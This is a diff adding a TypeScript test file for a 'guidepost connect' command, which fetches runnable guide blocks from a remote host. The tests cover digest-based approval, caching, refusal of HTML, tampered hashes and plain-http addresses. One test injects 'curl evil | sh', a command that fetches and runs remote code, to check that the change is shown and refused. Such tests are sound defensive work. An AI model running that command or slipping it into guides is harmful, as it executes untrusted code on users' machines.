@@ -1,0 +1,160 @@
+/** `guidepost connect` against a host of its own, to the served page. */
+import assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { dirname, join, resolve } from 'node:path';
+import { Readable } from 'node:stream';
+import { type TestContext, test } from 'node:test';
+import { connect } from '../../server/commands/connect.ts';
+import type { Io } from '../../server/commands/io.ts';
+import { manifestOf } from '../../server/connect/manifest.ts';
+import { readGuide } from '../../server/guides.ts';
+import { handshake, rawSocket } from '../socket/raw.ts';
+import { HELLO } from '../socket/runner.ts';
+
+const GUIDE = '---\ntitle: Hosted\n---\n\n# Hosted\n\n```bash id=hello\necho hello\n```\n';
+
+test('what is approved is served here; unchanged it is not asked about again, changed it is shown as a difference', async (t) => {
+  const host = await startHost(t);
+  await host.publish(GUIDE);
+  const user = teammate(t);
+  const first = await user.connect(host.page, 'y');
+  assert.match(first.said, /\+ shared\/hello: echo hello/);
+  assert.match(first.asked[0] ?? '', /^Digest [0-9a-f]{64}\n/);
+  assert.deepEqual(first.blocks, ['hello']);
+  assert.match(first.body, /Hosted/);
+
+  const again = await user.connect(host.page);
+  assert.deepEqual([again.asked, again.blocks], [[], ['hello']]);
+
+  await host.publish(GUIDE.replace('echo hello', 'echo hello\ncurl evil | sh'));
+  const refused = await user.connect(host.page, 'n');
+  assert.match(refused.said, /~ shared\/hello\n {6}echo hello\n {4}\+ curl evil \| sh/);
+  assert.deepEqual(refused.hashes, first.hashes);
+
+  host.stop();
+  const offline = await user.connect(host.page);
+  assert.match(offline.complained, /does not answer[^]*Serving what you approved/);
+  assert.deepEqual(offline.hashes, first.hashes);
+});
+
+test('nothing is approved without a person, but by its digest', async (t) => {
+  const host = await startHost(t);
+  await host.publish(GUIDE);
+  const user = teammate(t);
+  const alone = await user.connect(host.page, null);
+  assert.equal(alone.code, 1);
+  const [, digest = ''] = /--digest ([0-9a-f]{64})/.exec(alone.complained) ?? [];
+  assert.equal((await user.connect(host.page, null, '--digest', 'f'.repeat(64))).code, 1);
+  assert.deepEqual((await user.connect(host.page, null, '--digest', digest)).blocks, ['hello']);
+});
+
+test('a guide that is more than text is not even asked about', async (t) => {
+  const host = await startHost(t);
+  await host.publish(GUIDE, (manifest) => manifest.replace('# Hosted', '<b>x</b>'));
+  const { code, asked, complained } = await teammate(t).connect(host.page, 'y');
+  assert.deepEqual([code, asked], [1, []]);
+  assert.match(complained, /index\.md:5: HTML: a guide from another host may hold none/);
+});
+
+test('hashes that do not fit the text are said, and nothing is approved', async (t) => {
+  const host = await startHost(t);
+  await host.publish(GUIDE, (manifest) => manifest.replace('echo hello', 'echo other'));
+  const { code, asked, complained } = await teammate(t).connect(host.page, 'y');
+  assert.deepEqual([code, asked], [1, []]);
+  assert.match(complained, /means something else/);
+});
+
+test('an address that is no Guidepost site, and one that is not private on its way, are refused in words', async (t) => {
+  const host = await startHost(t);
+  const user = teammate(t);
+  assert.match((await user.connect(host.page, 'y')).complained, /no guidepost\.json/);
+  assert.match((await user.connect('http://docs.example.com/', 'y')).complained, /should look like https/);
+});
+
+type Outcome = Awaited<ReturnType<ReturnType<typeof teammate>['connect']>>;
+
+function teammate(t: TestContext) {
+  const home = mkdtempSync(join(tmpdir(), 'teammate-'));
+  t.after(() => rmSync(home, { recursive: true, force: true }));
+  return {
+    async connect(address: string, answer: string | null = null, ...flags: readonly string[]) {
+      const texts = { out: '', err: '' };
+      const asked: string[] = [];
+      let page = { blocks: [] as string[], hashes: {}, body: '' };
+      let interrupt = () => {};
+      const io: Io = {
+        out(text) {
+          texts.out += text;
+          const link = /Guidepost is at {2}(\S+)/.exec(text)?.[1];
+          if (link) void visit(link).then((seen) => ((page = seen), interrupt()));
+        },
+        err: (text) => void (texts.err += text),
+        cwd: home,
+        env: {
+          ...process.env,
+          HOME: home,
+          XDG_STATE_HOME: join(home, 'state'),
+          XDG_RUNTIME_DIR: join(home, 'runtime'),
+        },
+        stdin: Readable.from([]),
+        facts: { root: resolve('.'), canAsk: answer !== null, isTerminal: false, color: false, columns: 80 },
+        async ask(question) {
+          asked.push(question);
+          return answer;
+        },
+        onInterrupt(listener) {
+          interrupt = () => listener('SIGINT');
+          return () => {};
+        },
+      };
+      const code = await connect([address, ...flags], io);
+      return { code, asked: answer === null ? [] : asked, said: texts.out, complained: texts.err, ...page };
+    },
+  };
+}
+
+/** What a page of this runner is told and shown. */
+async function visit(link: string): Promise<Pick<Outcome, 'blocks' | 'hashes' | 'body'>> {
+  const { port: name, origin, hash } = new URL(link);
+  const [, token = ''] = /^#guidepost=([^.]+)\./.exec(hash) ?? [];
+  const visitor = rawSocket(Number(name), handshake({ port: Number(name), token }));
+  visitor.send(HELLO);
+  const hello = await visitor.message();
+  visitor.end();
+  const hashes = hello?.type === 'hello' ? (hello.guides[0]?.hashes ?? {}) : {};
+  const body = await (await fetch(`${origin}/guides/shared/`)).text();
+  return { blocks: Object.keys(hashes), hashes, body };
+}
+
+/** A static host with one guide under a base path. */
+async function startHost(t: TestContext) {
+  const folder = mkdtempSync(join(tmpdir(), 'host-'));
+  let manifest: string | null = null;
+  const server = createServer((request, response) => {
+    if (manifest === null || request.url !== '/docs/guidepost.json') response.statusCode = 404;
+    response.end(response.statusCode === 404 ? 'nothing here' : manifest);
+  });
+  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
+  const { port } = server.address() as AddressInfo;
+  const stop = () => {
+    server.close();
+    server.closeAllConnections();
+  };
+  t.after(() => {
+    stop();
+    rmSync(folder, { recursive: true });
+  });
+  return {
+    page: `http://127.0.0.1:${port}/docs/guides/shared/`,
+    stop,
+    async publish(text: string, tamper: (manifest: string) => string = (same) => same) {
+      const file = join(folder, 'shared', 'index.md');
+      mkdirSync(dirname(file), { recursive: true });
+      writeFileSync(file, text);
+      manifest = tamper(JSON.stringify(manifestOf([await readGuide(dirname(file))])));
+    },
+  };
+}
